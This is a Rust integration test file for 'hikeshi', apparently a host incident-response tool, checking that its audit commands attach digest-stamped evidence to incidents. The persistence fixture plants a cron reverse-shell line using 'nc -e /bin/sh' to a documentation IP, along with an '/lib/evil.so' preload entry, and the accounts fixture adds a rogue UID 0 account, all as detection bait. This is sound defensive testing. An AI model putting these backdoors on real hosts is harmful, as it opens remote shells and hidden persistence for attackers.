//! `--incident N` end to end: `accounts`, `recent`, `persistence`, `fim
//! check` and `verify` attach what they saw to an incident (seeded through
//! the library store API), checked through `hikeshi incident show --json`.
//! Each digest is recomputed from the command's own JSON output.
//!
//! Runs as an ordinary user or as root; uses loopback TCP only.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Output;

use hikeshi::store::{self, Store};
use hikeshi_core::incident::{Actor, CampaignKey, IncidentId, Observation, State};
use hikeshi_core::Severity;
use jiff::Timestamp;
use serde_json::Value;
use sha2::{Digest, Sha256};

/// A temporary environment: a fixture root, a data dir, a configuration.
struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new(config: &str) -> Env {
        let env = Env { dir: tempfile::tempdir().unwrap() };
        fs::create_dir_all(env.root()).unwrap();
        env.config(config);
        env
    }

    fn config(&self, text: &str) {
        fs::write(self.dir.path().join("hikeshi.toml"), text).unwrap();
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("root")
    }

    fn root_arg(&self) -> String {
        self.root().display().to_string()
    }

    fn data(&self) -> PathBuf {
        self.dir.path().join("data")
    }

    /// Writes `text` at `path` under the fixture root, creating directories.
    fn write(&self, path: &str, text: impl AsRef<[u8]>) -> PathBuf {
        let p = self.root().join(path.trim_start_matches('/'));
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, text).unwrap();
        p
    }

    fn run(&self, args: &[&str]) -> Output {
        hikeshi::exec::command(env!("CARGO_BIN_EXE_hikeshi"), Vec::<&str>::new())
            .arg("--config")
            .arg(self.dir.path().join("hikeshi.toml"))
            .arg("--data-dir")
            .arg(self.data())
            .args(args)
            .env_remove("HIKESHI_CONFIG")
            .env_remove("HIKESHI_DATA_DIR")
            .output()
            .unwrap()
    }

    /// Opens an incident through the library (as `hikeshi scan` would).
    fn seed_incident(&self, address: &str) -> IncidentId {
        fs::create_dir_all(self.data()).unwrap();
        let mut store = Store::open(&store::db_path(&self.data())).unwrap();
        let obs = Observation::new(
            CampaignKey::for_addr(address.parse().unwrap()),
            "ssh-bruteforce",
            Severity::High,
            "2026-03-01T10:00:00Z".parse::<Timestamp>().unwrap(),
            20,
        );
        store.open_or_update_incident(obs).unwrap().0
    }

    fn set_state(&self, id: IncidentId, state: State) {
        let mut store = Store::open(&store::db_path(&self.data())).unwrap();
        let at = "2026-03-01T11:00:00Z".parse::<Timestamp>().unwrap();
        store.set_state(id, state, at, &Actor::person("lead").unwrap()).unwrap();
    }

    fn show(&self, id: IncidentId) -> Value {
        let out = self.run(&["incident", "show", &id.to_string(), "--json"]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn sha256_hex(bytes: &[u8]) -> String {
    format!("{:x}", Sha256::digest(bytes))
}

/// The bytes a JSON command printed, without the final newline: the document.
fn document(out: &Output) -> &[u8] {
    out.stdout.strip_suffix(b"\n").expect("output ends with a newline")
}

fn timeline(incident: &Value) -> Vec<(String, String, String)> {
    incident["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["kind"].as_str().unwrap().to_string(),
                e["actor"].as_str().unwrap().to_string(),
                e["detail"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn evidence(incident: &Value) -> Vec<Value> {
    incident["evidence"].as_array().unwrap().clone()
}

/// Checks the incident's only evidence: from `producer`, with `doc` as
/// its content and its SHA-256; and the timeline entry that says so.
fn assert_attached(env: &Env, id: IncidentId, producer: &str, doc: &[u8], summary: &str) {
    let incident = env.show(id);
    let kept = evidence(&incident);
    assert_eq!(kept.len(), 1, "{incident:#}");
    let e = &kept[0];
    assert_eq!(e["file"], producer);
    assert_eq!(e["sha256"], sha256_hex(doc));
    assert_eq!(e["line"].as_str().unwrap().as_bytes(), doc);
    assert_eq!(e["line_hex"], Value::Null);
    assert_eq!(incident["evidence_lines"], 1);
    let entries = timeline(&incident);
    let added: Vec<_> = entries.iter().filter(|(k, _, _)| k == "evidence_added").collect();
    assert_eq!(added.len(), 1, "{entries:?}");
    let (_, actor, detail) = added[0];
    assert_eq!(actor, "hikeshi");
    assert!(detail.starts_with(summary), "{detail:?} does not start with {summary:?}");
    assert!(detail.contains(&format!("{producer}: sha256 {}", sha256_hex(doc))), "{detail}");
    assert!(detail.contains("kept inline"), "{detail}");
}

// ---- accounts ----

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
ann:x:1003:1003:Badminton club,,,:/home/ann:/bin/bash
toor:x:0:0::/root:/bin/bash
";

fn accounts_fixture(env: &Env) {
    env.write("/etc/passwd", PASSWD);
    env.write("/etc/shadow", "root:*:20000:0:99999:7:::\nann:$6$x$y:19000:0:99999:7:::\n");
    env.write("/etc/group", "root:x:0:\nsudo:x:27:\n");
    env.write("/etc/login.defs", "UID_MIN 1000\n");
}

#[test]
fn accounts_findings_are_attached_with_the_digest_of_the_json_output() {
    let env = Env::new("");
    accounts_fixture(&env);
    let id = env.seed_incident("203.0.113.7");
    let root = env.root_arg();
    let out = env.run(&["accounts", "--root", &root, "--json", "--incident", &id.to_string()]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(doc["findings"].as_array().unwrap().iter().any(|f| f["subject"] == "toor"));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(&format!("attached to incident {id} as evidence: sha256 ")),
        "{stderr}"
    );
    let criticals =
        doc["findings"].as_array().unwrap().iter().filter(|f| f["severity"] == "critical").count();
    assert!(criticals > 0, "a second UID 0 account is critical: {doc:#}");
    let summary = format!("accounts audit of {root}: ");
    assert_attached(&env, id, &format!("hikeshi accounts --root {root}"), document(&out), &summary);
    let detail = &timeline(&env.show(id))[1].2;
    assert!(detail.contains(&format!("{criticals} critical")), "{detail}");
}

#[test]
fn accounts_table_output_attaches_the_same_document() {
    let env = Env::new("");
    accounts_fixture(&env);
    let id = env.seed_incident("203.0.113.7");
    let root = env.root_arg();
    let out = env.run(&["accounts", "--root", &root, "--incident", "1"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("SEVERITY"), "the table is still printed");
    let kept = evidence(&env.show(id));
    let line = kept[0]["line"].as_str().unwrap();
    let doc: Value = serde_json::from_str(line).unwrap();
    assert_eq!(doc["command"], "accounts");
    assert_eq!(kept[0]["sha256"], sha256_hex(line.as_bytes()));
}

// ---- persistence ----

#[test]
fn persistence_findings_are_attached() {
    let env = Env::new("");
    env.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    env.write("/etc/ld.so.preload", "/lib/evil.so\n");
    env.write("/etc/cron.d/backdoor", "* * * * * root nc -e /bin/sh 203.0.113.9 4444\n");
    let id = env.seed_incident("203.0.113.7");
    let root = env.root_arg();
    let out = env.run(&[
        "persistence",
        "--root",
        &root,
        "--since",
        "1h",
        "--no-setuid-scan",
        "--json",
        "--incident",
        "1",
    ]);
    let code = out.status.code().unwrap();
    assert!(code == 0 || code == 1, "{}", text(&out.stderr));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(!doc["findings"].as_array().unwrap().is_empty(), "{doc:#}");
    assert_attached(
        &env,
        id,
        &format!("hikeshi persistence --root {root}"),
        document(&out),
        &format!("persistence check of {root}: "),
    );
}

// ---- recent ----

/// `hikeshi recent --root ROOT --since 1h --format jsonl --incident 1`,
/// which must succeed.
fn recent_jsonl(env: &Env, root: &str) -> Output {
    let out = env.run(&[
        "recent",
        "--root",
        root,
        "--since",
        "1h",
        "--format",
        "jsonl",
        "--incident",
        "1",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    out
}

#[test]
fn recent_jsonl_is_attached_as_printed() {
    let env = Env::new("");
    env.write("/etc/new.conf", "x");
    env.write("/usr/bin/dropped", "ELF");
    let id = env.seed_incident("203.0.113.7");
    let root = env.root_arg();
    let out = recent_jsonl(&env, &root);
    assert_eq!(text(&out.stdout).lines().count(), 2);
    // JSONL: the document is every line, each with its newline, as printed.
    assert_attached(
        &env,
        id,
        &format!("hikeshi recent --root {root} --since 1h"),
        &out.stdout,
        &format!("recent files under {root}: 2 changed since "),
    );

    // The default `ls` format attaches the same JSONL document.
    let ls = env.run(&["recent", "--root", &root, "--since", "1h", "--incident", "1"]);
    assert_eq!(ls.status.code(), Some(0), "{}", text(&ls.stderr));
    assert!(text(&ls.stdout).starts_with('-'), "ls lines: {}", text(&ls.stdout));
    let kept = evidence(&env.show(id));
    assert_eq!(kept.len(), 2);
    assert_eq!(kept[1]["line"], kept[0]["line"]);
}

#[test]
fn a_large_document_goes_to_an_evidence_file_with_its_digest() {
    let env = Env::new("");
    // About 2 MB of JSONL: beyond the 1 MiB kept inline.
    let long = "d".repeat(150);
    for i in 0..6000 {
        env.write(&format!("/srv/{long}/file-{i:05}"), "x");
    }
    let id = env.seed_incident("203.0.113.7");
    let root = env.root_arg();
    let out = recent_jsonl(&env, &root);
    assert!(out.stdout.len() > hikeshi::evidence::INLINE_MAX_BYTES, "{}", out.stdout.len());
    let digest = sha256_hex(&out.stdout);
    let file = env.data().join("evidence").join(format!("{digest}.jsonl"));
    assert_eq!(fs::read(&file).unwrap(), out.stdout, "the whole document, byte for byte");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);

    let incident = env.show(id);
    let kept = evidence(&incident);
    assert_eq!(kept.len(), 1);
    let line = kept[0]["line"].as_str().unwrap();
    assert!(line.len() < 4096, "only a pointer is kept inline");
    assert_eq!(kept[0]["sha256"], sha256_hex(line.as_bytes()));
    let pointer: Value = serde_json::from_str(line).unwrap();
    assert_eq!(pointer["sha256"], digest);
    assert_eq!(pointer["bytes"], out.stdout.len());
    assert_eq!(pointer["stored_in"], file.display().to_string());
    assert!(pointer["summary"].as_str().unwrap().contains("6000 changed"), "{pointer}");
    let detail = &timeline(&incident)[1].2;
    assert!(detail.contains(&format!("sha256 {digest}")), "{detail}");
    assert!(detail.contains(&format!("stored in {}", file.display())), "{detail}");
}

// ---- fim check ----

fn fim_env() -> Env {
    let env = Env::new("");
    let tree = env.root();
    env.config(&format!(
        "[fim]\nexclude = []\n[[fim.rule]]\npath = \"{}\"\nattrs = \"p+u+g+s+sha256\"\n",
        tree.display()
    ));
    env.write("/bin/sshd", "original");
    env.write("/etc/sshd_config", "PermitRootLogin no\n");
    let out = env.run(&["fim", "init", "--no-progress"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    env
}

#[test]
fn fim_check_result_is_attached_with_its_evidence_digest() {
    let env = fim_env();
    env.write("/bin/sshd", "trojaned");
    let id = env.seed_incident("203.0.113.7");
    let out = env.run(&["fim", "check", "--json", "--no-progress", "--incident", "1"]);
    assert_eq!(out.status.code(), Some(4), "changed: {}", text(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["summary"]["changed"], 1);
    let baseline = env.data().join("fim/baseline.hfim");
    assert_attached(
        &env,
        id,
        &format!("hikeshi fim check --baseline {}", baseline.display()),
        document(&out),
        &format!(
            "file integrity check against {}: differences found; 0 added, 0 removed, 1 changed",
            baseline.display()
        ),
    );
    // The text output's "evidence digest" is the same SHA-256.
    let out = env.run(&["fim", "check", "--no-progress"]);
    assert!(text(&out.stdout).contains("evidence digest: sha256:"), "{}", text(&out.stdout));
}

// ---- verify ----

fn verify_config(port: u16, last_command: &str) -> String {
    format!(
        r#"
[verify]
monitoring = false
[[verify.check]]
type = "tcp"
address = "127.0.0.1:{port}"
name = "sshd port"
[[verify.check]]
type = "command"
argv = ["sh", "-c", "{last_command}"]
name = "service answers"
"#
    )
}

#[test]
fn verify_records_each_check_and_moves_the_incident_to_recovered() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let env = Env::new(&verify_config(port, "exit 0"));
    let id = env.seed_incident("203.0.113.7");
    env.set_state(id, State::Eradicated);
    let out = env.run(&["verify", "--json", "--incident", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(stderr.contains("incident 1 moved from eradicated to recovered"), "{stderr}");

    let incident = env.show(id);
    assert_eq!(incident["state"], "recovered");
    let kept = evidence(&incident);
    assert_eq!(kept.len(), 1);
    assert_eq!(kept[0]["file"], format!("hikeshi verify on {}", incident_host(&out)));
    assert_eq!(kept[0]["sha256"], sha256_hex(document(&out)));
    let entries = timeline(&incident);
    let kinds: Vec<&str> = entries.iter().map(|(k, _, _)| k.as_str()).collect();
    assert_eq!(
        kinds,
        [
            "detected",
            "state_changed",
            "evidence_added",
            "recovery_check",
            "recovery_check",
            "state_changed"
        ]
    );
    assert!(entries[2].2.starts_with("recovery validation on "), "{}", entries[2].2);
    assert!(entries[2].2.contains(": 2 passed, 0 failed;"), "{}", entries[2].2);
    assert!(entries[3].2.starts_with("passed: sshd port [tcp 127.0.0.1:"), "{}", entries[3].2);
    assert!(entries[4].2.starts_with("passed: service answers [command "), "{}", entries[4].2);
    assert_eq!(entries[5].1, "hikeshi");
    assert!(entries[5].2.starts_with("eradicated → recovered"), "{}", entries[5].2);

    // Run again: the results are recorded, the state stays recovered.
    let again = env.run(&["verify", "--incident", "1"]);
    assert_eq!(again.status.code(), Some(0), "{}", text(&again.stderr));
    assert!(text(&again.stderr).contains("incident 1 was already recovered"));
    let incident = env.show(id);
    assert_eq!(incident["state"], "recovered");
    assert_eq!(evidence(&incident).len(), 2);
    drop(listener);
}

fn incident_host(out: &Output) -> String {
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    report["host"].as_str().unwrap().to_string()
}

#[test]
fn verify_with_a_failed_check_leaves_the_state_and_says_which_failed() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let env = Env::new(&verify_config(port, "echo refused >&2; exit 3"));
    let id = env.seed_incident("203.0.113.7");
    let out = env.run(&["verify", "--json", "--incident", "1"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(stderr.contains("1 check(s) failed: service answers"), "{stderr}");
    let incident = env.show(id);
    assert_eq!(incident["state"], "detected");
    assert_eq!(evidence(&incident)[0]["sha256"], sha256_hex(document(&out)));
    let entries = timeline(&incident);
    let checks: Vec<&str> =
        entries.iter().filter(|(k, _, _)| k == "recovery_check").map(|e| e.2.as_str()).collect();
    assert_eq!(checks.len(), 2);
    assert!(checks[0].starts_with("passed: sshd port"), "{}", checks[0]);
    assert!(checks[1].starts_with("FAILED: service answers"), "{}", checks[1]);
    assert!(checks[1].contains("refused"), "{}", checks[1]);
    assert!(!entries.iter().any(|(k, _, _)| k == "state_changed"));
    drop(listener);
}

// ---- refusals ----

/// Every command with `--incident 99`, which does not exist.
fn every_command_with(env: &Env, incident: &str) -> Vec<(&'static str, Output)> {
    let root = env.root_arg();
    vec![
        ("accounts", env.run(&["accounts", "--root", &root, "--baseline", "--incident", incident])),
        ("recent", env.run(&["recent", "--root", &root, "--incident", incident])),
        (
            "persistence",
            env.run(&["persistence", "--root", &root, "--no-setuid-scan", "--incident", incident]),
        ),
        ("fim check", env.run(&["fim", "check", "--no-progress", "--incident", incident])),
        ("verify", env.run(&["verify", "--incident", incident])),
    ]
}

fn refusal_env() -> Env {
    let env = fim_env();
    let mut config = fs::read_to_string(env.dir.path().join("hikeshi.toml")).unwrap();
    config.push_str(&verify_config(1, "exit 0"));
    env.config(&config);
    accounts_fixture(&env);
    env
}

#[test]
fn a_missing_incident_is_an_error_and_nothing_is_written() {
    let env = refusal_env();
    // No database yet: none is created.
    for (command, out) in every_command_with(&env, "1") {
        assert_eq!(out.status.code(), Some(2), "{command}: {}", text(&out.stderr));
        assert!(out.stdout.is_empty(), "{command}: nothing done: {}", text(&out.stdout));
        let stderr = text(&out.stderr);
        assert!(stderr.contains("--incident 1: there is no incident 1"), "{command}: {stderr}");
    }
    assert!(!store::db_path(&env.data()).exists());
    assert!(!env.data().join("baselines").exists(), "accounts --baseline did nothing");

    // A database with incident 1 only.
    let id = env.seed_incident("203.0.113.7");
    let before = env.show(id);
    for (command, out) in every_command_with(&env, "99") {
        assert_eq!(out.status.code(), Some(2), "{command}: {}", text(&out.stderr));
        let stderr = text(&out.stderr);
        assert!(stderr.contains("there is no incident 99"), "{command}: {stderr}");
    }
    assert_eq!(env.show(id), before);
    assert!(!env.data().join("evidence").exists());
    let list = env.run(&["incident", "list", "--json"]);
    assert_eq!(serde_json::from_slice::<Value>(&list.stdout).unwrap().as_array().unwrap().len(), 1);

    let bad = env.run(&["accounts", "--root", &env.root_arg(), "--incident", "seven"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(text(&bad.stderr).contains("invalid incident number"), "{}", text(&bad.stderr));
}

#[test]
fn a_closed_incident_refuses_evidence() {
    let env = refusal_env();
    let id = env.seed_incident("203.0.113.7");
    env.set_state(id, State::Closed);
    let before = env.show(id);
    for (command, out) in every_command_with(&env, "1") {
        assert_eq!(out.status.code(), Some(2), "{command}: {}", text(&out.stderr));
        let stderr = text(&out.stderr);
        assert!(stderr.contains("incident 1 is closed"), "{command}: {stderr}");
    }
    assert_eq!(env.show(id), before);
}
